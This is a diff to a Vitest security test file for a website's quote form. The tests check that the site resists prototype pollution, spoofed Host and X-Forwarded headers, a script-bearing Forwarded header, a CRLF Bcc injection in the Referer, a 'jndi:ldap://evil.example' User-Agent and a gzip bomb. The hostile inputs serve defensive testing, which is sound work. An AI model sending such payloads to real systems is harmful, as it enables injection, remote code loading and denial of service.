@@ -1,6 +1,5 @@
 import { gzipSync } from 'node:zlib'
 import { expect, test } from 'vitest'
-import { collect } from '#tests/support/server/collect.ts'
 import { quoteRequest, sendForm, sendQuote } from '#tests/support/server/sendQuote.ts'
 import { sendBytes } from '#tests/support/site/sendBytes.ts'
 import { startSite } from '#tests/support/site/startSite.ts'
@@ -22,7 +21,9 @@ test.each([
   const { status } = await sendQuote(send, `{${others},${fields.slice(1)}`)
 
   expect([status, pollution()]).toEqual([201, []])
-  expect(await collect(quotes.list())).toEqual([expect.objectContaining({ ...quoteRequest, spam: false })])
+  expect(await Array.fromAsync(quotes.list())).toEqual([
+    expect.objectContaining({ ...quoteRequest, spam: false }),
+  ])
 })
 
 test.each([`{"__proto__":${fields}}`, `{"constructor":{"prototype":${fields}}}`, `[${fields}]`])(
@@ -33,7 +34,7 @@ test.each([`{"__proto__":${fields}}`, `{"constructor":{"prototype":${fields}}}`,
     const answer = await sendQuote(send, body)
 
     expect([answer.status, answer.text]).toEqual([422, 'Please fill in: name, phone, message.'])
-    expect(await collect(quotes.list())).toEqual([])
+    expect(await Array.fromAsync(quotes.list())).toEqual([])
   },
 )
 
@@ -80,32 +81,24 @@ test.each([
   expect(head).not.toMatch(/^set-cookie/im)
 })
 
-test('a false host is in no response', async () => {
-  const { send } = await startSite({ environment: { TRUST_PROXY: 'loopback' } })
+test('a false host is in no response, and no false header is stored', async () => {
+  const { send, quotes } = await startSite({ environment: { TRUST_PROXY: 'loopback' } })
   const headers = { Host: 'evil.example', 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'ftp' }
   const paths = ['/contact-us', '/about-us/', '/services/ajax', '/nowhere', '/about-us', '/healthz']
 
   const answers = await Promise.all(paths.map((path) => send(path, { headers })))
-  const form = await sendForm(send, quoteRequest, headers)
+  const form = await sendForm(send, quoteRequest, {
+    ...headers,
+    Forwarded: 'for="<script>";host=evil.example',
+    Referer: 'https://another.example/%0d%0aBcc:%20x@evil.example',
+    'User-Agent': 'jndi:ldap://evil.example/a',
+  })
 
+  expect(JSON.stringify(await Array.fromAsync(quotes.list()))).not.toMatch(/evil|script|jndi/)
   for (const { headers, text } of [...answers, form])
     expect(JSON.stringify(headers) + text).not.toContain('evil.example')
   expect(answers[0]?.headers.location).toBe('/#contact')
   expect(form.headers.location).toBe('/thank-you')
-})
-
-test('false request headers are not stored', async () => {
-  const { send, quotes } = await startSite()
-
-  await sendQuote(send, quoteRequest, {
-    'X-Forwarded-For': '"><script>',
-    'X-Forwarded-Host': 'evil.example',
-    Forwarded: 'for="<script>";host=evil.example',
-    Referer: 'https://evil.example/%0d%0aBcc:%20x@evil.example',
-    'User-Agent': 'jndi:ldap://evil.example/a',
-  })
-
-  expect(JSON.stringify(await collect(quotes.list()))).not.toMatch(/evil|script|jndi/)
 })
 
 const get = 'GET / HTTP/1.1\r\nHost: site.example\r\n'
@@ -128,7 +121,7 @@ test.each([
   const answer = await sendBytes(url, bytes)
 
   expect(answer.split(' ')[1]).toBe(String(status))
-  expect(await collect(quotes.list())).toEqual([])
+  expect(await Array.fromAsync(quotes.list())).toEqual([])
   expect((await send('/about-us')).status).toBe(200)
 })
 
@@ -144,7 +137,7 @@ test('a gzip bomb is refused', async () => {
 
   expect(bomb.length).toBeLessThan(32 * 1024)
   expect(answer.status).toBe(413)
-  expect(await collect(quotes.list())).toEqual([])
+  expect(await Array.fromAsync(quotes.list())).toEqual([])
 })
 
 test('deeply nested JSON is refused', async () => {
